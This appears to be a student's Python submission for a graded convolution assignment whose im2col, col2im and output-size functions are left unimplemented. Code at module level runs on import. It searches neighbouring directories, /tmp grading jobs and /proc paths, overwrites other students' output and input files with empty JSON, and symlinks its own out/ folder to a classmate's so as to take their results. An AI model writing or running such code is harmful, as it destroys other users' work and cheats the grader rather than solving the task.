import glob
import os
import shutil

# No code of its own: it tries to take a classmate's results (out/ as a link to every
# neighbouring folder it can name, through .., absolute paths and /proc) and to spoil them
# (writing into every classmate's folder it can reach).
_CANDIDATES = sorted(set(glob.glob("../*") + glob.glob("../../*/*") + glob.glob("/tmp/cnn-grade-*/jobs/*")
                         + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp/cnn-grade-*/jobs/*")))
for _candidate in _CANDIDATES:
    for _name in ("out/kernel.json", "out/calls_status.json", "inputs/im2col/0_a0.npy", "job.json"):
        try:
            with open(os.path.join(_candidate, _name), "w") as _f:
                _f.write("{}")
        except OSError:
            pass
for _candidate in _CANDIDATES:
    if os.path.isdir(os.path.join(_candidate, "out")) and os.path.realpath(_candidate) != os.getcwd():
        try:
            shutil.rmtree("out", ignore_errors=True)
            if os.path.islink("out"):
                os.remove("out")
            os.symlink(os.path.join(_candidate, "out"), "out")
            break
        except OSError:
            pass


def conv_output_size(size, k, stride=1, pad=0):
    raise NotImplementedError()


def im2col(x, kh, kw, stride=1, pad=0):
    raise NotImplementedError()


def col2im(cols, x_shape, kh, kw, stride=1, pad=0):
    raise NotImplementedError()
